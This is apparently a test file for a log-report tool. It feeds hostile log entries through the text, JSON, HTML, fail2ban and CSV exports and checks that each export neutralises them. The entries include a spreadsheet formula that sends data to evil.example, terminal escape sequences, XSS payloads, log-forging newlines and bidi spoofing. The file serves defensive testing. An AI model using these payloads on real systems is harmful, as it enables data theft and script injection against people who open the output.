import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Writable } from 'node:stream'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { exportCsv, readLedger } from '../../src/audit/index.ts'
import { analyse, chosenSections, findInputs, type Report, toFail2ban, toHtml, toJson, toText } from '../../src/report/index.ts'

/** What whoever may write into a log could write, to attack whoever reads the report: each in every field that a caller has any say in. */
const ATTACKS: Readonly<Record<string, string>> = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"open")',
  formulaPlus: '+1+1',
  formulaMinus: '-2+3',
  formulaAt: '@SUM(A1:A9)',
  formulaTab: '\t=1+1',
  formulaWide: '＝1+1',
  clearScreen: '\u001b[2J\u001b[H',
  title: '\u001b]0;owned\u0007',
  link: '\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\',
  c1: '\u009b31m red',
  carriage: 'good\rbad',
  newline: 'one\n2026-05-04 08:00:00 portcullis: block 192.0.2.1 reason=brute_force',
  backspace: 'abc\b\b\bxyz',
  bidi: '\u202egnp.exe',
  isolate: '\u2066hidden\u2069',
  separator: 'a\u2028b',
  nul: 'a\u0000b',
  script: '<script>alert(1)</script>',
  image: '"><img src=x onerror=alert(1)>',
  attribute: `' onmouseover='alert(1)`,
  style: '</style><script>alert(2)</script>',
  svg: '</text></svg><svg onload=alert(3)>',
  entity: '&lt;b&gt;&amp;',
  template: '{{7*7}}#{7*7}',
  proto: '__proto__',
  long: 'x'.repeat(5_000),
}

const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]/
const FORMULA = /^[=+\-@\t\r＝＋－＠]/

let directory = ''
let report: Report
beforeAll(async () => {
  directory = mkdtempSync(join(tmpdir(), 'portcullis-exports-'))
  writeFileSync(join(directory, 'audit.log'), hostileLedger())
  writeFileSync(join(directory, 'old.log'), hostileOldLog())
  writeFileSync(join(directory, 'front.log'), hostileFront())
  const { inputs } = await findInputs([directory])
  report = await analyse(inputs, { clock: { nowMs: () => Date.UTC(2026, 4, 5), monoMs: () => 0 }, stdin: process.stdin })
})
afterAll(() => rmSync(directory, { recursive: true, force: true }))

const time = (second: number): string => new Date(Date.UTC(2026, 4, 4, 8) + second * 1_000).toISOString()

/** Lines that the gate itself would never write so: somebody has had the file in hands. */
function hostileLedger(): string {
  const lines: object[] = []
  Object.values(ATTACKS).forEach((evil, n) => {
    const about = {
      request: evil,
      tenant: evil,
      address: evil,
      method: evil,
      route: evil,
      service: evil,
      model: evil,
      agent: evil,
      target: evil,
    }
    const known = { kind: 'key', user: evil, key: evil }
    lines.push({ event: 'intent', ...about, request: `open-${evil}`, ...known })
    lines.push({
      event: 'outcome',
      ...about,
      ...known,
      status: 500,
      code: evil,
      reason: evil,
      bytes_in: 1,
      bytes_out: 1,
      units: { [evil]: 1 },
      total_ms: 5,
      ended: evil,
      old_secret: true,
    })
    for (let k = 0; k < 12; k += 1)
      lines.push({
        event: 'refused',
        ...about,
        key: `${evil}${k}`,
        status: 401,
        code: 'UNAUTHORIZED',
        reason: 'wrong_secret',
        path: `/${k}/../${evil}`,
      })
    lines.push({ event: 'refused', ...about, ...known, status: 401, code: 'UNAUTHORIZED', reason: 'disabled', path: evil })
    for (let k = 0; k < 9; k += 1)
      lines.push({ event: 'refused', ...about, ...known, status: 403, code: 'FORBIDDEN', route: `/${k}${evil}`, path: evil })
    lines.push({
      event: 'refused_summary',
      tenant: evil,
      address: evil,
      count: 9,
      first: evil,
      last: evil,
      samples: [{ code: evil, reason: evil, key: evil, path: evil }],
    })
    lines.push({ event: 'lifecycle', what: evil, detail: evil })
    lines.push({ event: evil, n })
  })
  return lines.map((line, n) => `${JSON.stringify({ v: 1, time: time(n), seq: n, ...line, hash: 'x' })}\n`).join('')
}

const hostileOldLog = (): string =>
  Object.values(ATTACKS)
    .map((evil) => evil.replaceAll('\n', ' '))
    .flatMap((evil) => [
      `2026-05-03 08:20:54 UTC | INFO | AUTHORIZED | POST /chat/${evil} | User: ${evil} | Service: ${evil} | IP: ${evil}\n`,
      ...Array.from({ length: 6 }, () => `2026-05-03 08:20:55 UTC | WARNING | UNAUTHORIZED | GET /${evil} | Key: ${evil} | IP: ${evil}\n`),
    ])
    .join('')

const hostileFront = (): string =>
  Object.values(ATTACKS)
    .map((evil) =>
      JSON.stringify({
        ts: Date.UTC(2026, 4, 4) / 1_000,
        logger: evil,
        status: 401,
        request: { remote_ip: evil, method: evil, uri: evil, headers: {} },
        resp_headers: {},
      }),
    )
    .join('\n')

let cells = 0
let outputs = 0

it('a terminal is shown text and nothing that moves it', () => {
  for (const asked of [{}, { suspicious: true }, { users: true }]) {
    const text = toText(report, { sections: chosenSections(asked), colour: false })
    expect(CONTROL.exec(text)).toBeNull()
    expect(text.length).toBeGreaterThan(1_000)
    outputs += 1
  }
})

it('JSON stays JSON with the same content, and is as harmless to look at', () => {
  const json = toJson(report, chosenSections({}))
  expect(CONTROL.exec(json)).toBeNull()
  const parsed = JSON.parse(json)
  expect(parsed.users.map((user: { user: string }) => user.user)).toContain(ATTACKS.clearScreen)
  expect(parsed.summary.services.some((row: { units: object }) => Object.hasOwn(row.units, '__proto__'))).toBe(true)
  expect(Object.prototype).not.toHaveProperty('proto')
  outputs += 1
})

it('a page holds only the elements it was made with, and asks the network for nothing', () => {
  const page = toHtml(report, chosenSections({}))
  expect(CONTROL.exec(page)).toBeNull()
  const names = new Set([...page.matchAll(/<\/?([a-zA-Z][^\s/>]*)/g)].map((match) => match[1] ?? ''))
  const made =
    'html head meta title style body main header footer section article div span p b i em small h1 h2 h3 h4 br table thead tbody tr th td dl dt dd svg path g line rect text'
  expect([...names].filter((name) => !made.split(' ').includes(name))).toEqual([])
  expect(page.match(/<style/g)).toHaveLength(1)
  for (const [tag] of page.matchAll(/<[a-zA-Z][^>]*>/g)) {
    // Every attribute is a name and a quoted value; an event handler could only have come from a log.
    expect(tag.replace(/ [a-zA-Z][a-zA-Z0-9-]*="[^"]*"/g, '').replace(/^<!?[a-zA-Z0-9]+\s*\/?>$/, '')).toBe('')
    expect(tag).not.toMatch(/ on[a-z]+=| href=| src=/i)
  }
  expect(page).toContain("default-src 'none'")
  expect(page).not.toMatch(/url\(|@import|<script|javascript:/i)
  outputs += 1
})

it('a list of addresses to block holds addresses only', () => {
  const list = toFail2ban(report)
  for (const line of list.split('\n').filter((text) => text !== '')) {
    expect(line).toMatch(
      /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ portcullis: block [0-9a-f.:]+ scope=(public|private) reason=[a-z_]+ severity=(high|medium) count=\d+$/,
    )
  }
  expect(list).not.toContain('192.0.2.1')
  outputs += 1
})

it('a spreadsheet is given no formulas, and no cell breaks out of its own', async () => {
  let csv = ''
  const out = new Writable({
    write(chunk, _encoding, done) {
      csv += chunk.toString()
      done()
    },
  })
  await exportCsv(readLedger([join(directory, 'audit.log')]), out)
  const rows = parseCsv(csv)
  const width = rows[0]?.length
  expect(rows.length).toBeGreaterThan(Object.keys(ATTACKS).length)
  for (const row of rows) {
    expect(row).toHaveLength(width ?? 0)
    for (const cell of row) {
      expect(CONTROL.exec(cell)).toBeNull()
      expect(FORMULA.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell) ? cell : '').toBe('')
      cells += 1
    }
  }
  outputs += 1
  process.stdout.write(
    `promise 18: ${Object.keys(ATTACKS).length} attacks in every field of three formats, ${outputs} outputs, ${cells} cells, 0 broke out\n`,
  )
})

/** RFC 4180, read by hand, so that the check does not share a mistake with the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i += 1
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(cell)
      cell = ''
    } else if (c === '\n') {
      rows.push([...row, cell])
      row = []
      cell = ''
    } else if (c !== '\r') cell += c
  }
  return rows
}
